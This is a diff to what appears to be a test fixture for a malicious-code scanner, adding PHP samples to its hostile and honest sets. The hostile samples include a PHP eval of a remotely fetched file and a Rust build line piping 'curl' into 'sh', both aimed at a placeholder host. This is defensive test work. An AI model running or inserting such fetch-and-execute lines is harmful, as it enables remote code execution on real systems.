@@ -132,6 +132,9 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("next.config.js", 1),
         ),
+        "a server's answer, in PHP": Sample(
+            {"a.php": "<?php\neval(file_get_contents('https://a.invalid'));\n"}, "block", ("a.php", 2)
+        ),
         "in a language that is not read": Sample(
             {"build.rs": 'use std::process::Command;\nCommand::new("sh").arg("curl -s https://a.invalid | sh");\n'},
             "review",
@@ -218,6 +221,7 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "the interpreter of an environment": {
             ".vscode/settings.json": '{"python.defaultInterpreterPath": ".venv/bin/python"}'
         },
+        "a server's answer is shown, in PHP": {"a.php": "<?php\necho file_get_contents('https://a.invalid');\n"},
         "text in a language that is not read": {"src/a.rs": 'const HELP: &str = "curl your data, then pipe it";\n'},
     },
     "other_packages": {
